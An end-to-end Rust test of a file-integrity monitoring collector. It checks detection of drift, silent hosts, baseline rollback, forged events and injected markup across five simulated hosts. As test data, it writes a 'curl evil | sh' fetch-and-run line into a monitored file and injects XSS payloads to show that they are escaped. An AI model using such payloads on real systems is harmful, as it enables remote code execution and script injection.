//! The collector, end to end. Five hosts, each a network namespace (its own
//! host name, its own copy of the release mounted at the installed path,
//! reaching the brokers over a veth pair on the test's private network) run
//! `tripseal watch` against a signed role baseline and send to a fleet
//! feed; `tripseal collect` reads the feed on loopback. What each host does
//! to it (killed, rolled back, on an unpublished baseline, drifted) must show
//! in `tripseal fleet` and in the collector's own events, and a collector or
//! broker that is killed loses nothing and counts nothing twice.

use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use super::common::*;
use super::env::{Brokers, ip};

const ROLE: &str = "celery-app";
/// The daemons' heartbeat: silent after three of them.
const HEARTBEAT: &str = "2s";

fn run(cmd: &mut Command) -> Output {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{cmd:?}: {}{}",
        stdout(&out),
        stderr(&out)
    );
    out
}

/// A release of the application: `variant` changes one module.
fn release(at: &Path, variant: &str) {
    std::fs::create_dir_all(at.join("pkg")).unwrap();
    std::fs::write(
        at.join("tasks.py"),
        format!("# {variant}\ndef add(x, y):\n    return x + y\n"),
    )
    .unwrap();
    std::fs::write(at.join("pkg/__init__.py"), b"").unwrap();
    std::fs::write(at.join("celeryconfig.py"), b"accept_content = ['json']\n").unwrap();
}

/// What the operator made: signed role baselines, and the key that signs.
struct Releases {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    /// The path every host has the application at (each host mounts its
    /// own tree there).
    installed: PathBuf,
    trust: PathBuf,
    /// Generation 1 and 2, signed and published.
    gen1: PathBuf,
    gen2: PathBuf,
    /// A generation 2 of other content, signed and never published.
    unpublished: PathBuf,
    /// The release trees generation 2 and the unpublished one describe.
    tree2: PathBuf,
    tree_unpublished: PathBuf,
}

impl Releases {
    fn make() -> Releases {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().to_path_buf();
        let installed = dir.join("installed/app");
        std::fs::create_dir_all(&installed).unwrap();
        let p = installed.display();
        let rules = write_rules(
            &dir,
            &format!(
                "role = \"{ROLE}\"\n\n[[rule]]\nname = \"app\"\npaths = [\"{p}\", \"{p}/**\"]\n\
                 check = [\"type\", \"mode\", \"size\", \"link\", \"hash\"]\nseverity = \"high\"\n"
            ),
        );
        let key = dir.join("operator.key");
        keygen(&key);
        let trust = dir.join("trusted.d");
        std::fs::create_dir(&trust).unwrap();
        std::fs::copy(dir.join("operator.key.pub"), trust.join("operator.pub")).unwrap();

        let build = |name: &str, variant: &str| {
            let t = dir.join(name);
            release(&t, variant);
            t
        };
        let tree1 = build("release1", "v1");
        let tree2 = build("release2", "v2");
        let tree_unpublished = build("release2-unpublished", "v2 with a backdoor");
        let relocate = |tree: &Path| {
            vec![
                format!("--root={}", tree.display()),
                format!("--as={}", installed.display()),
            ]
        };
        let gen1 = dir.join("gen1.db");
        let mut init = Command::new(bin_path());
        init.arg("init")
            .arg("--rules")
            .arg(&rules)
            .arg("--db")
            .arg(&gen1)
            .args(relocate(&tree1));
        run(&mut init);
        assert_ok(&sign_with(&key, &gen1, &[]));
        let next = |from: &Path, to: &Path, tree: &Path| {
            std::fs::copy(from, to).unwrap();
            let mut update = Command::new(bin_path());
            update
                .arg("update")
                .arg("--db")
                .arg(to)
                .args(relocate(tree));
            run(&mut update);
            assert_ok(&sign_with(&key, to, &[]));
        };
        let gen2 = dir.join("gen2.db");
        next(&gen1, &gen2, &tree2);
        let unpublished = dir.join("unpublished.db");
        next(&gen1, &unpublished, &tree_unpublished);
        Releases {
            _tmp: tmp,
            dir,
            installed,
            trust,
            gen1,
            gen2,
            unpublished,
            tree2,
            tree_unpublished,
        }
    }
}

/// One host: a network namespace on the brokers' private network, with
/// its own tree and baseline, running `tripseal watch`.
struct Host {
    name: String,
    netns: String,
    /// The host side of its veth pair.
    veth: String,
    tree: PathBuf,
    db: PathBuf,
    installed: PathBuf,
    trust: PathBuf,
    feed: String,
    log: PathBuf,
    daemon: Option<Child>,
}

impl Host {
    fn new(b: &Brokers, r: &Releases, index: u32, name: &str, tree: &Path, db: &Path) -> Host {
        let tag = std::process::id() % 10_000;
        let netns = format!("ts{tag}{name}");
        let (outer, inner) = (format!("v{tag}h{index}a"), format!("v{tag}h{index}b"));
        // Left by an earlier flow whose namespace the kernel has not torn
        // down yet: its veth pair goes with its host side, at once.
        for stale in [vec!["link", "del", &outer], vec!["netns", "del", &netns]] {
            let _ = Command::new("ip")
                .args(stale)
                .stderr(Stdio::null())
                .status();
        }
        ip(&["netns", "add", &netns]);
        ip(&[
            "link", "add", &outer, "type", "veth", "peer", "name", &inner,
        ]);
        ip(&["link", "set", &outer, "master", &b.fleet.bridge]);
        ip(&["link", "set", &outer, "up"]);
        ip(&["link", "set", &inner, "netns", &netns]);
        let addr = format!("{}.{}/24", b.fleet.net, 10 + index);
        ip(&["-n", &netns, "addr", "add", &addr, "dev", &inner]);
        ip(&["-n", &netns, "link", "set", &inner, "up"]);
        ip(&["-n", &netns, "link", "set", "lo", "up"]);
        let home = r.dir.join(name);
        std::fs::create_dir_all(&home).unwrap();
        let own_tree = home.join("app");
        run(Command::new("cp").arg("-r").arg(tree).arg(&own_tree));
        let own_db = home.join("app.db");
        std::fs::copy(db, &own_db).unwrap();
        Host {
            name: name.into(),
            netns,
            veth: outer,
            tree: own_tree,
            db: own_db,
            installed: r.installed.clone(),
            trust: r.trust.clone(),
            feed: String::new(),
            log: home.join("watch.log"),
            daemon: None,
        }
    }

    /// Starts `tripseal watch` on this host, sending to `feed`.
    fn start(&mut self, feed: &str) {
        self.feed = feed.to_string();
        let log = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&self.log)
            .unwrap();
        let child = Command::new("ip")
            .args(["netns", "exec", &self.netns])
            .args(["unshare", "--uts", "--mount", "--propagation", "private"])
            .args(["sh", "-c"])
            .arg(
                "echo \"$0\" > /proc/sys/kernel/hostname && mount --bind \"$1\" \"$2\" && \
                 shift 2 && exec \"$@\"",
            )
            .arg(&self.name)
            .arg(&self.tree)
            .arg(&self.installed)
            .arg(bin_path())
            .arg("watch")
            .arg("--db")
            .arg(&self.db)
            .arg("--trust")
            .arg(&self.trust)
            .args(["--heartbeat", HEARTBEAT, "--emit", feed])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .process_group(0)
            .spawn()
            .unwrap();
        self.daemon = Some(child);
    }

    fn signal(&mut self, sig: i32) {
        if let Some(mut c) = self.daemon.take() {
            // SAFETY: kill(2) on the process group this child leads.
            unsafe {
                libc::kill(-(c.id() as i32), sig);
            }
            let _ = c.wait();
        }
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        self.signal(libc::SIGKILL);
        let _ = Command::new("ip")
            .args(["link", "del", &self.veth])
            .status();
        let _ = Command::new("ip")
            .args(["netns", "del", &self.netns])
            .status();
    }
}

/// `tripseal collect` reading one feed, its own events to a file, serving
/// its pages on loopback.
struct Collector {
    store: PathBuf,
    flags: PathBuf,
    log: PathBuf,
    feed: String,
    listen: String,
    child: Option<Child>,
}

impl Collector {
    fn start(dir: &Path, feed: &str) -> Collector {
        let mut c = Collector {
            store: dir.join("collector.db"),
            flags: dir.join("collector-events.jsonl"),
            log: dir.join("collector.log"),
            feed: feed.into(),
            listen: format!("127.0.0.1:{}", super::env::free_port()),
            child: None,
        };
        c.restart();
        c
    }

    /// GET `path` from the collector's web server: (status, body).
    fn get(&self, path: &str) -> (u16, String) {
        use std::io::{Read, Write};
        let deadline = Instant::now() + WAIT;
        let mut stream = loop {
            match std::net::TcpStream::connect(&self.listen) {
                Ok(s) => break s,
                Err(e) if Instant::now() > deadline => panic!("{}: {e}", self.listen),
                Err(_) => std::thread::sleep(Duration::from_millis(100)),
            }
        };
        write!(
            stream,
            "GET {path} HTTP/1.0\r\nHost: {}\r\n\r\n",
            self.listen
        )
        .unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let status = head.split(' ').nth(1).unwrap().parse().unwrap();
        (status, body.to_string())
    }

    /// The status page as a real headless Chromium loads it: its DOM after
    /// loading, and a screenshot (checked to be a PNG).
    fn page_in_chromium(&self, dir: &Path) -> String {
        let profile = dir.join("chromium-profile");
        let url = format!("http://{}/", self.listen);
        let chromium = |extra: &[&str]| {
            let out = Command::new("chromium")
                .args([
                    "--headless",
                    "--no-sandbox",
                    "--disable-gpu",
                    "--no-first-run",
                    "--disable-background-networking",
                    "--disable-component-update",
                    "--disable-sync",
                    "--window-size=1280,900",
                ])
                .arg(format!("--user-data-dir={}", profile.display()))
                .args(extra)
                .arg(&url)
                .output()
                .expect("chromium (scripts/test.sh installs Debian's chromium)");
            assert!(out.status.success(), "chromium: {}", stderr(&out));
            out
        };
        let shot = dir.join("status.png");
        let _ = std::fs::remove_file(&shot);
        chromium(&[&format!("--screenshot={}", shot.display())]);
        let png = std::fs::read(&shot).unwrap();
        assert!(
            png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 5000,
            "a screenshot"
        );
        String::from_utf8(chromium(&["--dump-dom"]).stdout).unwrap()
    }

    fn restart(&mut self) {
        let log = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&self.log)
            .unwrap();
        let child = Command::new(bin_path())
            .arg("collect")
            .arg("--from")
            .arg(&self.feed)
            .arg("--store")
            .arg(&self.store)
            .arg("--emit")
            .arg(format!("file:{}", self.flags.display()))
            .arg("--listen")
            .arg(&self.listen)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .process_group(0)
            .spawn()
            .unwrap();
        self.child = Some(child);
    }

    fn kill(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }

    /// The collector's own events.
    fn flags(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.flags)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn flags_about(&self, kind: &str, host: &str) -> usize {
        self.flags()
            .iter()
            .filter(|f| f["type"] == kind && f["host"] == host)
            .count()
    }

    fn fleet(&self, args: &[&str]) -> Output {
        tripseal()
            .arg("fleet")
            .args(args)
            .arg("--store")
            .arg(&self.store)
            .output()
            .unwrap()
    }

    fn status(&self) -> Value {
        let out = self.fleet(&["status", "--format", "json"]);
        serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}{}", stdout(&out), stderr(&out)))
    }

    fn host(&self, name: &str) -> Option<Value> {
        self.status()["hosts"]
            .as_array()?
            .iter()
            .find(|h| h["host"] == name)
            .cloned()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// Waits for `what` to hold, saying what was seen when it does not.
    fn wait(&self, within: Duration, what: &str, hosts: &[Logs], ok: impl Fn(&Collector) -> bool) {
        let deadline = Instant::now() + within;
        while !ok(self) {
            if Instant::now() > deadline {
                let logs: Vec<String> = hosts
                    .iter()
                    .map(|(name, log, netns)| {
                        let net = Command::new("ip")
                            .args(["netns", "exec", netns, "sh", "-c"])
                            .arg("ip -br addr; ip neigh; ss -tan")
                            .output()
                            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
                            .unwrap_or_default();
                        format!(
                            "--- {name} ---\n{}\n{net}",
                            std::fs::read_to_string(log).unwrap_or_default()
                        )
                    })
                    .collect();
                panic!(
                    "{what}: not within {within:?}\nstatus: {}\nflags: {:?}\ncollector log:\n{}\n{}",
                    self.status(),
                    self.flags(),
                    self.log(),
                    logs.join("\n")
                );
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    /// Every number of every stream taken exactly once: none lost (no gap
    /// counted), none twice (as many events taken as numbers given).
    fn assert_each_event_once(&self) {
        let s = self.status();
        let numbered: i64 = s["hosts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["sequence"]["last"].as_i64().unwrap_or(0))
            .sum();
        for h in s["hosts"].as_array().unwrap() {
            assert_eq!(h["events_lost"], 0, "{h}");
        }
        assert_eq!(
            s["collector"]["events_consumed"].as_i64(),
            Some(numbered),
            "every event once: {s}\n{}",
            self.log()
        );
    }
}

impl Drop for Collector {
    fn drop(&mut self) {
        self.kill();
    }
}

fn problems(h: &Value) -> Vec<String> {
    h["problems"]
        .as_array()
        .map(|p| p.iter().map(|x| x.as_str().unwrap().to_string()).collect())
        .unwrap_or_default()
}

/// A host's name, its daemon's log and its network namespace, shown when a
/// wait fails.
type Logs = (String, PathBuf, String);

const WAIT: Duration = Duration::from_secs(30);

/// The whole flow over one feed: `host_feed` as the hosts reach the broker
/// (over the private network), `collector_feed` as the collector does (on
/// loopback); `restart_broker` kills the broker and starts it again (a
/// Redis that keeps nothing on disk has nothing to restart with); `inject`
/// puts a raw message into the feed.
pub fn fleet_flow(
    b: &Brokers,
    host_feed: &str,
    collector_feed: &str,
    restart_broker: Option<&dyn Fn()>,
    inject: &dyn Fn(&[u8]),
    vouched: bool,
) {
    let r = Releases::make();
    for db in [&r.gen1, &r.gen2] {
        let out = tripseal()
            .args(["fleet", "publish"])
            .arg(db)
            .arg("--store")
            .arg(r.dir.join("collector.db"))
            .arg("--trust")
            .arg(&r.trust)
            .output()
            .unwrap();
        assert_ok(&out);
        assert!(
            stdout(&out).contains(&format!("published role {ROLE}")),
            "{}",
            stdout(&out)
        );
    }
    let collector = Collector::start(&r.dir, collector_feed);
    let mut hosts: Vec<Host> = Vec::new();
    for (i, name) in ["web1", "web2", "web3", "web4", "web5"].iter().enumerate() {
        let (tree, db) = if *name == "web4" {
            (&r.tree_unpublished, &r.unpublished)
        } else {
            (&r.tree2, &r.gen2)
        };
        let mut h = Host::new(b, &r, i as u32, name, tree, db);
        h.start(host_feed);
        hosts.push(h);
    }
    let all: Vec<Logs> = hosts
        .iter()
        .map(|h| (h.name.clone(), h.log.clone(), h.netns.clone()))
        .collect();
    collector.wait(WAIT, "five hosts heard", &all, |c| {
        c.status()["hosts"]
            .as_array()
            .is_some_and(|h| h.len() == 5 && h.iter().all(|h| h["backend"] == "fanotify"))
    });
    // Each host is one monitor of its own name (the baseline's file is
    // app.db: the instance "app"), with the role its baseline serves.
    let s = collector.status();
    for h in s["hosts"].as_array().unwrap() {
        assert_eq!(h["instance"], "app", "{h}");
        assert_eq!(h["name"], format!("{}/app", h["host"].as_str().unwrap()));
        assert_eq!(h["role"], ROLE, "{h}");
        assert_eq!(h["baseline"]["generation"], 2, "{h}");
        assert_eq!(h["heartbeat_period"], 2.0, "{h}");
        let host = h["host"].as_str().unwrap();
        if host == "web4" {
            assert_eq!(problems(h), ["unknown-baseline"], "{h}");
            assert_eq!(h["baseline"]["published"], false);
        } else {
            assert_eq!(problems(h), Vec::<String>::new(), "{h}");
            assert_eq!(h["baseline"]["published"], true);
            assert_eq!(h["baseline"]["signers"].as_array().unwrap().len(), 1);
        }
    }
    // Worst first: the host with a problem leads.
    assert_eq!(s["hosts"][0]["host"], "web4", "{s}");
    assert_eq!(
        collector.flags_about("fim-host-unknown-baseline", "web4"),
        1
    );
    let human = collector.fleet(&["status"]);
    assert_eq!(human.status.code(), Some(1), "a problem: exit 1");
    let first = stdout(&human).lines().next().unwrap().to_string();
    assert!(
        first.starts_with("web4/app") && first.contains("unknown-baseline"),
        "{first}"
    );

    // web1: a module changed → open drift everywhere; acknowledged → gone.
    let tasks = hosts[0].tree.join("tasks.py");
    std::fs::write(&tasks, b"import os\nos.system('curl evil | sh')\n").unwrap();
    let installed_tasks = r.installed.join("tasks.py").display().to_string();
    collector.wait(WAIT, "web1's drift", &all, |c| {
        c.host("web1").is_some_and(|h| problems(&h) == ["drift"])
    });
    let drift = collector.fleet(&["drift", "web1", "--format", "json"]);
    assert_eq!(drift.status.code(), Some(1), "open drift: exit 1");
    let d: Value = serde_json::from_slice(&drift.stdout).unwrap();
    let rows = d["drift"].as_array().unwrap();
    assert_eq!(rows.len(), 1, "{d}");
    assert_eq!(rows[0]["path"], installed_tasks.as_str());
    assert_eq!(rows[0]["kind"], "modified");
    assert_eq!(rows[0]["severity"], "high");
    assert!(rows[0]["event"]["changes"].get("hash").is_some(), "{d}");
    let web1 = "host=\"web1\",instance=\"app\",role=\"celery-app\"";
    let (_, metrics) = collector.get("/metrics");
    assert!(
        metrics.contains(&format!("tripseal_fleet_host_open_drift{{{web1}}} 1")),
        "{metrics}"
    );
    assert!(
        metrics.contains("tripseal_fleet_open_drift{severity=\"high\"} 1"),
        "{metrics}"
    );
    let dom = collector.page_in_chromium(&r.dir);
    let row = dom
        .lines()
        .find(|l| l.contains("data-host=\"web1/app\""))
        .unwrap_or_else(|| panic!("{dom}"));
    assert!(
        row.contains("<td>1 high</td>") && row.contains("drift"),
        "{row}"
    );
    let human = stdout(&collector.fleet(&["drift", "web1"]));
    assert!(
        human.contains(&installed_tasks) && human.contains("[hash,size]"),
        "{human}"
    );
    let ack = collector.fleet(&["ack", "web1", &installed_tasks, "--by", "alice"]);
    assert_ok(&ack);
    let h = collector.host("web1").unwrap();
    assert_eq!(problems(&h), Vec::<String>::new(), "{h}");
    let (_, metrics) = collector.get("/metrics");
    assert!(
        metrics.contains(&format!("tripseal_fleet_host_open_drift{{{web1}}} 0")),
        "acknowledged: {metrics}"
    );
    let drift = collector.fleet(&["drift", "web1"]);
    assert_eq!(drift.status.code(), Some(0));
    assert!(
        stdout(&drift).contains("acknowledged by alice"),
        "{}",
        stdout(&drift)
    );
    // A path with no open drift is refused, and nothing is acknowledged.
    let bad = collector.fleet(&["ack", "web1", "/nowhere"]);
    assert_eq!(bad.status.code(), Some(15), "{}", stderr(&bad));
    assert!(
        stderr(&bad).contains("no open drift at /nowhere"),
        "{}",
        stderr(&bad)
    );

    // web2 killed with SIGKILL: silent within three heartbeats (and the
    // judging second); started again: back.
    // (Counted from here: a machine that stalls for a few seconds may have
    // made a host look silent before.)
    let (silent_before, back_before) = (
        collector.flags_about("fim-host-silent", "web2"),
        collector.flags_about("fim-host-back", "web2"),
    );
    hosts[1].signal(libc::SIGKILL);
    let killed = Instant::now();
    collector.wait(WAIT, "web2 silent", &all, |c| {
        c.flags_about("fim-host-silent", "web2") > silent_before
    });
    let took = killed.elapsed();
    assert!(took < Duration::from_secs(12), "silent after {took:?}");
    let h = collector.host("web2").unwrap();
    assert_eq!(h["state"], "silent", "{h}");
    assert_eq!(problems(&h), ["silent"]);
    let human = stdout(&collector.fleet(&["status"]));
    assert!(
        human.lines().next().unwrap().starts_with("web2/app"),
        "silent is worst: {human}"
    );
    hosts[1].start(host_feed);
    collector.wait(WAIT, "web2 back", &all, |c| {
        c.flags_about("fim-host-back", "web2") > back_before
            && c.host("web2").is_some_and(|h| h["state"] == "ok")
    });

    // web3 restarted on generation 1, its own record of the generation it
    // accepted removed (as an intruder with root would): the host cannot
    // tell, the collector can.
    hosts[2].signal(libc::SIGTERM);
    std::fs::copy(&r.gen1, &hosts[2].db).unwrap();
    std::fs::remove_file(tripseal::seal::accepted_state_path(&hosts[2].db)).unwrap();
    hosts[2].start(host_feed);
    collector.wait(WAIT, "web3 rollback", &all, |c| {
        c.flags_about("fim-host-rollback", "web3") == 1
    });
    let h = collector.host("web3").unwrap();
    assert!(problems(&h).contains(&"rollback".to_string()), "{h}");
    assert_eq!(h["baseline"]["generation"], 1);
    assert_eq!(h["baseline"]["highest_generation"], 2);
    let rollback = collector
        .flags()
        .into_iter()
        .find(|f| f["type"] == "fim-host-rollback")
        .unwrap();
    assert_eq!(
        (
            rollback["generation"].as_i64(),
            rollback["highest"].as_i64()
        ),
        (Some(1), Some(2))
    );
    // The flag names the monitor it is about; its own envelope names the
    // collector.
    assert_eq!(rollback["host_instance"], "app");
    assert_eq!(rollback["monitor"], "web3/app");
    assert_eq!(rollback["instance"], "collector");

    // The collector killed mid-stream and started again: nothing lost,
    // nothing counted twice. The hosts' events wait in the feed while it is
    // down; it is killed again once it has taken part of them.
    collector.assert_each_event_once_later(&all);
    let mut collector = collector;
    collector.kill();
    let many = 2000;
    for i in 0..many {
        std::fs::write(hosts[4].tree.join(format!("dropped-{i}.py")), b"x").unwrap();
    }
    std::thread::sleep(Duration::from_secs(3));
    collector.restart();
    let open_on_web5 = |c: &Collector| {
        c.host("web5")
            .and_then(|h| h["open_drift"]["high"].as_i64())
            .unwrap_or(0)
    };
    let deadline = Instant::now() + WAIT;
    while open_on_web5(&collector) == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    collector.kill();
    let at_kill = open_on_web5(&collector);
    eprintln!("collector killed with {at_kill} of {many} of web5's events stored");
    assert!(at_kill < many, "killed mid-stream");
    collector.restart();
    collector.wait(WAIT, "web5's files", &all, |c| open_on_web5(c) == many);
    collector.assert_each_event_once_later(&all);

    // The broker killed and started again: hosts and collector reconnect,
    // and what was sent meanwhile arrives, once.
    if let Some(restart_broker) = restart_broker {
        restart_broker();
        std::fs::write(hosts[4].tree.join("after-restart.py"), b"y").unwrap();
        collector.wait(
            Duration::from_secs(120),
            "drift sent after the broker restart",
            &all,
            |c| open_on_web5(c) == many + 1,
        );
        collector.wait(
            Duration::from_secs(120),
            "every host heard again",
            &all,
            |c| {
                c.status()["hosts"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .all(|h| h["state"] == "ok")
            },
        );
        collector.assert_each_event_once_later(&all);
    }

    // What a compromised host (or anyone who can publish to the feed) puts
    // there: a message that is not an event, and one whose host name is
    // markup. The first is counted and dropped, the second shown as text.
    inject(b"not an event at all");
    let evil = "<img src=x onerror=alert(1)>";
    inject(
        serde_json::json!({
            "type": "fim-heartbeat",
            "hostname": format!("fim@{evil}"),
            "id": "6b1f0c52-9a0e-4c4e-8c53-9f4d1d7f0c11",
            "instance": "x\"><script>alert(2)</script>",
            "freq": 60.0,
        })
        .to_string()
        .as_bytes(),
    );
    collector.wait(WAIT, "the injected messages taken", &all, |c| {
        c.status()["collector"]["malformed"] == 1 && c.host(evil).is_some()
    });
    if vouched {
        // RabbitMQ says which account published a message: an event that
        // claims to be web1's, published without web1's account, is refused.
        let before = collector.host("web1").unwrap()["sequence"]["last"].clone();
        inject(
            serde_json::json!({
                "type": "fim-online",
                "hostname": "fim@web1",
                "instance": "app",
                "id": "0c7f6f0e-1d0b-4f55-9a57-3d1f1f8f0a01",
                "freq": 86400.0,
                "stream": "forged",
                "seq": 1,
            })
            .to_string()
            .as_bytes(),
        );
        collector.wait(WAIT, "the impostor refused", &all, |c| {
            c.flags_about("fim-host-impostor", "web1") == 1
        });
        let h = collector.host("web1").unwrap();
        assert_eq!(h["heartbeat_period"], 2.0, "{h}");
        assert!(h["sequence"]["last"].as_i64() >= before.as_i64(), "{h}");
        assert_ne!(h["sequence"]["stream"], "forged");
        assert_eq!(collector.status()["collector"]["impostors"], 1);
    }
    let dom = collector.page_in_chromium(&r.dir);
    assert!(!dom.contains("<img") && !dom.contains("<script"), "{dom}");
    assert!(dom.contains("&lt;img src=x onerror=alert(1)&gt;"), "{dom}");
    let (_, metrics) = collector.get("/metrics");
    assert!(
        metrics.contains(
            "host=\"<img src=x onerror=alert(1)>\",instance=\"x\\\"><script>alert(2)</script>\""
        ),
        "label values escaped as Prometheus reads them: {metrics}"
    );
    assert!(
        collector.log().contains("is not a tripseal event"),
        "{}",
        collector.log()
    );
}

impl Collector {
    /// [`Collector::assert_each_event_once`] once events in flight have
    /// been taken (heartbeats keep coming; the counts settle between them).
    fn assert_each_event_once_later(&self, hosts: &[Logs]) {
        self.wait(WAIT, "every event taken once", hosts, |c| {
            let s = c.status();
            let numbered: i64 = s["hosts"]
                .as_array()
                .unwrap()
                .iter()
                .map(|h| h["sequence"]["last"].as_i64().unwrap_or(0))
                .sum();
            s["collector"]["events_consumed"].as_i64() == Some(numbered)
        });
        self.assert_each_event_once();
    }
}
